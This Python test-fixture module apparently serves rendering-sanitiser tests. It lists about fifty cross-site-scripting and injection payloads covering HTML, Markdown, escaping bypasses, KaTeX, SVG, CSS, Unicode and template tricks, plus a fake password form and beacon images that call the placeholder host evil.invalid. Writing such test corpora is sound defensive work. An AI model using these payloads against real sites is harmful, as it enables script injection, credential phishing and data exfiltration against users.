"""Payloads for the rendering tests: each one tries to run script, build a form, or make the page
fetch something from another origin.

Every script payload writes its own id to ``window.__pwned`` (a trap reports any write), and every
fetch payload names a host under ``evil.invalid`` (the browser records each request). The kinds
follow the classes of the attack: HTML, Markdown, escape tricks, KaTeX, links, images, forms, CSS,
SVG and Unicode tricks.
"""

from __future__ import annotations

from typing import NamedTuple

EVIL = "evil.invalid"


class Payload(NamedTuple):
    kind: str
    text: str


def _pwn(n: int) -> str:
    return f"window.__pwned='p{n}'"


PAYLOADS: list[Payload] = [
    # -- raw HTML
    Payload("html", f"<script>{_pwn(1)}</script>"),
    Payload("html", f'<img src=x onerror="{_pwn(2)}">'),
    Payload("html", '<iframe srcdoc="<script>parent.__pwned=3</script>"></iframe>'),
    Payload("html", f'<object data="javascript:{_pwn(4)}"></object>'),
    Payload("html", f'<embed src="javascript:{_pwn(5)}">'),
    Payload("html", f'<details open ontoggle="{_pwn(6)}">d</details>'),
    Payload("html", f'<input autofocus onfocus="{_pwn(7)}">'),
    Payload("html", f'<video><source onerror="{_pwn(8)}"></video>'),
    Payload("html", f'<body onload="{_pwn(9)}">'),
    Payload("html", f'<marquee onstart="{_pwn(10)}">m</marquee>'),
    Payload("html", f'<meta http-equiv="refresh" content="0;url=http://{EVIL}/refresh">'),
    Payload("html", f'<base href="http://{EVIL}/base/">'),
    Payload("html", f"</textarea><script>{_pwn(11)}</script>"),
    Payload("html", f'<noscript><p title="</noscript><img src=x onerror={_pwn(12)}>">'),
    # -- Markdown
    Payload("markdown", f"[click](javascript:{_pwn(13)})"),
    Payload("markdown", f"[spaced](  JaVaScRiPt:{_pwn(14)})"),
    Payload("markdown", f"[ref][r14]\n\n[r14]: javascript:{_pwn(15)}"),
    Payload("markdown", f"<javascript:{_pwn(16)}>"),
    Payload("markdown", f"[data](data:text/html,<script>{_pwn(17)}</script>)"),
    Payload("markdown", f'![q](x" onerror="{_pwn(18)})'),
    Payload("markdown", f'[t](https://{EVIL}/ "t\\" onmouseover=\\"{_pwn(19)}")'),
    Payload("markdown", f'[qb](https://{EVIL}/"onmouseover="{_pwn(20)})'),
    Payload("markdown", f"```html\n<script>{_pwn(21)}</script>\n```"),
    Payload("markdown", f"``<img src=x onerror={_pwn(22)}>``"),
    Payload("markdown", f"> <img src=x onerror={_pwn(23)}>"),
    Payload("markdown", f"| a | b |\n|---|---|\n| <img src=x onerror={_pwn(24)}> | c |"),
    Payload("markdown", "```mermaid\ngraph TD; A-->B; click A call alert()\n```"),
    # -- escape tricks (what broke the old regex escaping)
    Payload("escape", f"\\<img src=x onerror={_pwn(25)}>"),
    Payload("escape", f"&lt;img src=x onerror={_pwn(26)}&gt;"),
    Payload("escape", f"&#60;script&#62;{_pwn(27)}&#60;/script&#62;"),
    Payload("escape", f"<scr<script>ipt>{_pwn(28)}</script>"),
    Payload("escape", f'<a href="jav&#x09;ascript:{_pwn(29)}">tab</a>'),
    Payload("escape", f'<a href="&#106;avascript:{_pwn(30)}">entity</a>'),
    Payload("escape", f"[ent](jav&#x61;script:{_pwn(31)})"),
    Payload("escape", f"[pct](javascript%3A{_pwn(32)})"),
    Payload("escape", f"`x`<img src=x onerror={_pwn(33)}>`y`"),
    Payload("escape", f"<math><mtext><table><mglyph><style><img src=x onerror={_pwn(34)}>"),
    # -- KaTeX
    Payload("katex", f"$$\\href{{javascript:{_pwn(35)}}}{{k}}$$"),
    Payload("katex", f"$$\\url{{javascript:{_pwn(36)}}}$$"),
    Payload("katex", f"$$\\includegraphics{{http://{EVIL}/katex.png}}$$"),
    Payload("katex", "$$\\htmlData{onclick=alert(1)}{x}$$"),
    Payload("katex", f"\\(\\href{{http://{EVIL}/inline}}{{i}}\\)"),
    # -- links
    Payload("link", f'<a href="http://{EVIL}/a" target="_blank">plain anchor</a>'),
    Payload("link", f"[proto-relative](//{EVIL}/pr)"),
    Payload("link", f"[vb](vbscript:msgbox({_pwn(37)}))"),
    Payload("link", "[file](file:///etc/passwd)"),
    Payload("link", "[logout](/logout)"),
    # -- images
    Payload("image", f"![beacon](http://{EVIL}/beacon.png)"),
    Payload("image", f"![pr](//{EVIL}/pr.png)"),
    Payload("image", f'<img src="http://{EVIL}/img.png">'),
    Payload("image", f'<img srcset="http://{EVIL}/srcset.png 1x">'),
    Payload("image", f'<picture><source srcset="http://{EVIL}/pic.png"><img></picture>'),
    Payload("image", f"![ref][img]\n\n[img]: http://{EVIL}/ref.png"),
    Payload("image", f'<video poster="http://{EVIL}/poster.png"></video>'),
    Payload("image", f'<input type="image" src="http://{EVIL}/input.png">'),
    Payload("image", f'<table background="http://{EVIL}/table.png"><tr><td>t</td></tr></table>'),
    # -- forms
    Payload(
        "form",
        f'<form action="http://{EVIL}/steal"><input type="password" name="p"><button>Sign in</button></form>',
    ),
    Payload("form", f'<button formaction="http://{EVIL}/fa">go</button>'),
    Payload("form", f'<form action="javascript:{_pwn(38)}"><button>send</button></form>'),
    Payload("form", "<select><option>x</option></select><textarea>t</textarea>"),
    Payload("form", f'<isindex action="http://{EVIL}/isindex">'),
    # -- CSS
    Payload("css", f"<style>body{{background:url(http://{EVIL}/css.png)}}</style>"),
    Payload("css", f'<div style="background:url(http://{EVIL}/style.png)">styled</div>'),
    Payload("css", f'<link rel="stylesheet" href="http://{EVIL}/x.css">'),
    Payload("css", f"<style>@import 'http://{EVIL}/import.css';</style>"),
    Payload("css", '<span style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</span>'),
    # -- SVG
    Payload("svg", f"<svg><script>{_pwn(39)}</script></svg>"),
    Payload("svg", f'<svg onload="{_pwn(40)}"><circle r="4"/></svg>'),
    Payload("svg", f'<svg><animate onbegin="{_pwn(41)}" attributeName="x" dur="1s"/></svg>'),
    Payload("svg", f'<svg><a href="javascript:{_pwn(42)}"><text y="10">svg link</text></a></svg>'),
    Payload("svg", f'<svg><image href="http://{EVIL}/svg.png"/></svg>'),
    Payload("svg", f"<svg><foreignObject><img src=x onerror={_pwn(43)}></foreignObject></svg>"),
    Payload("svg", f"![svgdata](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+{_pwn(44)})"),
    # -- Unicode tricks
    Payload("unicode", f"＜script＞{_pwn(45)}＜/script＞"),
    Payload("unicode", f"[rlo](https://{EVIL}/\u202egnp.exe)"),
    Payload("unicode", f"[zw](java\u200bscript:{_pwn(46)})"),
    Payload("unicode", f"[fw](ｊavascript:{_pwn(47)})"),
    Payload("unicode", f"\ufeff<script>{_pwn(48)}</script>"),
    Payload("unicode", f"<img src=x one\u0000rror={_pwn(49)}>"),
    Payload("unicode", f"<scr\u0307ipt>{_pwn(50)}</scr\u0307ipt>"),
    Payload("unicode", f"[idn](http://еxample.{EVIL}/cyrillic)"),
    # -- templates (Gradio's HTML component renders JS templates)
    Payload("template", "${window.__pwned='p51'}"),
    Payload("template", "{{constructor.constructor(\"window.__pwned='p52'\")()}}"),
]
MARKER = "XSS-END"


def corpus_text(payloads: list[Payload] = PAYLOADS) -> str:
    """All payloads, one block each, ending with the marker a test waits for."""
    return "\n\n".join([*(p.text for p in payloads), MARKER])
